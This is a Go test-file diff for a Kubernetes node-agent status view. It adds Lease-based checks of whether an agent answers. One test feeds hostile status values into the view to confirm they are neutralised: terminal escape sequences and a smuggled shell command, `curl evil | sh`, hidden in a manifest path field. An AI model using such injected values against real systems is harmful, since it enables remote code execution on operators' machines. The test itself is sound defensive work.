@@ -7,6 +7,7 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	coordinationv1 "k8s.io/api/coordination/v1"
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
@@ -28,12 +29,22 @@ func in(state v1alpha1.StaticPodState, name string) v1alpha1.StaticPod {
 	return v1alpha1.StaticPod{Namespace: "kube-system", Name: name, State: state}
 }
 
-func agentPod(node string, ready corev1.ConditionStatus) view.AgentPods {
-	return view.AgentPods{Namespace: "tides", Pods: map[string]*corev1.Pod{"ebbtide-agent-x": {
+func agentPod(node string, ready corev1.ConditionStatus) view.AgentSigns {
+	return view.AgentSigns{Namespace: "tides", Pods: map[string]*corev1.Pod{"ebbtide-agent-x": {
 		Spec:   corev1.PodSpec{NodeName: node},
 		Status: corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: ready}}},
 	}}}
 }
+
+// agentLease is the Lease of the agent of node-7, which a holder has renewed.
+func agentLease(holder string, renewed time.Time) view.AgentSigns {
+	return view.AgentSigns{Namespace: "tides", Now: noon, Leases: map[string]*coordinationv1.Lease{"ebbtide-agent-node-7": {
+		Spec: coordinationv1.LeaseSpec{HolderIdentity: &holder, RenewTime: &metav1.MicroTime{Time: renewed}},
+	}}}
+}
+
+const unrenewed = "node-7: its agent does not answer: it is a unit of the host and does not renew its Lease tides/ebbtide-agent-node-7; " +
+	"ask there: systemctl status ebbtide-agent"
 
 const bringBack = `for f in /etc/kubernetes/manifests/.*.ebbtide-held; do b=${f##*/.}; mv -n "$f" "/etc/kubernetes/manifests/${b%.ebbtide-held}"; done`
 
@@ -44,27 +55,35 @@ func TestWhetherAnAgentAnswers(t *testing.T) {
 	unit.Status.PodName = ""
 	for name, test := range map[string]struct {
 		agent *v1alpha1.NodeAgent
-		pods  view.AgentPods
+		signs view.AgentSigns
 		want  string
 		notes []string
 	}{
 		"its pod is ready":     {seven(held), agentPod("node-7", corev1.ConditionTrue), "yes", nil},
 		"its pod is not ready": {seven(), agentPod("node-7", corev1.ConditionFalse), "no", []string{"node-7: its agent does not answer: pod tides/ebbtide-agent-x is not ready"}},
-		"its pod is gone":      {seven(), view.AgentPods{Namespace: "tides"}, "no", []string{"node-7: its agent does not answer: there is no pod tides/ebbtide-agent-x on it"}},
+		"its pod is gone":      {seven(), view.AgentSigns{Namespace: "tides"}, "no", []string{"node-7: its agent does not answer: there is no pod tides/ebbtide-agent-x on it"}},
 		"the pod of another node": {
 			seven(), agentPod("node-8", corev1.ConditionTrue), "no",
 			[]string{"node-7: its agent does not answer: there is no pod tides/ebbtide-agent-x on it"},
 		},
-		"it keeps a pod away": {seven(held), view.AgentPods{Namespace: "tides"}, "no", []string{
+		"it keeps a pod away": {seven(held), view.AgentSigns{Namespace: "tides"}, "no", []string{
 			"node-7: its agent does not answer and keeps 1 static pod away: there is no pod tides/ebbtide-agent-x on it. " +
 				"If it does not come back, run this on the node: " + bringBack,
 		}},
-		"nobody may look":    {seven(held), view.AgentPods{Unread: errors.New("forbidden")}, "unknown", nil},
-		"a unit of the host": {unit, view.AgentPods{}, "unknown", []string{"node-7: its agent is a unit of the host; ask there: systemctl status ebbtide-agent"}},
+		"nobody may look":                   {seven(held), view.AgentSigns{PodsUnread: errors.New("forbidden")}, "unknown", nil},
+		"a unit of the host":                {unit, agentLease("node-7", noon.Add(-39*time.Second)), "yes", nil},
+		"a unit that was here a minute ago": {unit, agentLease("node-7", noon.Add(-time.Minute)), "no", []string{unrenewed}},
+		"a unit whose clock is ahead":       {unit, agentLease("node-7", noon.Add(time.Minute)), "no", []string{unrenewed}},
+		"a unit in whose place another is":  {unit, agentLease("node-8", noon), "no", []string{unrenewed}},
+		"a unit that was never here":        {unit, view.AgentSigns{Namespace: "tides", Now: noon}, "no", []string{unrenewed}},
+		"a unit of which nobody may ask":    {unit, view.AgentSigns{LeasesUnread: errors.New("forbidden"), Now: noon}, "unknown", nil},
+		"a unit where nobody may see pods": {unit, view.AgentSigns{
+			PodsUnread: errors.New("forbidden"), Now: noon, Leases: agentLease("node-7", noon).Leases,
+		}, "yes", nil},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			got := view.AgentOf(test.agent, test.pods)
+			got := view.AgentOf(test.agent, test.signs)
 			if got.Answers != test.want {
 				t.Errorf("it answers: %s, want %s", got.Answers, test.want)
 			}
@@ -105,7 +124,7 @@ func TestWhatAnAgentSaysIsNoCommandOfATerminal(t *testing.T) {
 	agent := seven(evil, in(v1alpha1.StaticPodHeld, "proxy-node-7"))
 	agent.Status.PodName, agent.Status.ManifestDir = "a\x1b[31mb", `/x"; curl evil | sh; "`
 	agent.Status.Shutdown = &v1alpha1.NodeShutdown{Phase: "\x1b[5m", Mode: "\r"}
-	got := view.AgentOf(agent, view.AgentPods{Namespace: "tides"})
+	got := view.AgentOf(agent, view.AgentSigns{Namespace: "tides"})
 	texts := append([]string{got.Shutdown, got.Mode}, got.Notes...)
 	for _, pod := range got.Pods {
 		texts = append(texts, pod.Name, pod.State, pod.Message, pod.Maintenance)
